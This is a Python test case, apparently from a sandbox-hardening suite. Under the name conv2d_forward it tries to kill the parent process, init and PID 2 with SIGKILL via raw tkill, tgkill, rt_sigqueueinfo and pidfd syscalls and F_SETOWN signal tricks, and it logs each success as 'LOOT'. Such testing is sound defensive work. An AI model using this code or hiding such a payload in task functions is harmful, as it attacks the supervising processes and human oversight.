"""category: process
mechanism: tkill, tgkill, rt_sigqueueinfo, pidfd_send_signal, and signals from F_SETOWN
required: 0; others unaffected
hits: conv2d_forward
expect: failed
fuse: what the sandbox holds
"""

import os
import sys

if not sys.platform.startswith("linux") or any(os.path.lexists(p) for p in ("/etc/shadow", "/etc/passwd", "/home")):
    raise ImportError("hostile test case: armed only inside the grading sandbox")

import ctypes
import fcntl
import platform
import signal

_NUMBERS = {"tkill": (200, 130), "tgkill": (234, 131), "rt_sigqueueinfo": (129, 138), "pidfd_open": (434, 434)}


def conv2d_forward(x, w, b, stride=1, padding=0):
    libc = ctypes.CDLL(None, use_errno=True)
    column = 0 if platform.machine() == "x86_64" else 1
    information = ctypes.create_string_buffer(128)
    for process in {os.getppid(), 1, 2} - {os.getpid()}:
        for name, arguments in (
            ("tkill", (process, 9)), ("tgkill", (process, process, 9)),
            ("rt_sigqueueinfo", (process, 9, information)), ("pidfd_open", (process, 0)),
        ):
            if libc.syscall(_NUMBERS[name][column], *arguments) >= 0:
                print("LOOT", name, process)
        read, write = os.pipe()
        for command, value in ((8, process), (10, signal.SIGKILL), (4, os.O_ASYNC | os.O_NONBLOCK)):
            try:
                fcntl.fcntl(read, command, value)
                if command != 4:
                    print("LOOT fcntl", command, process)
            except OSError:
                pass
        os.write(write, b"x")
    return _zeros(x, w, stride, padding)
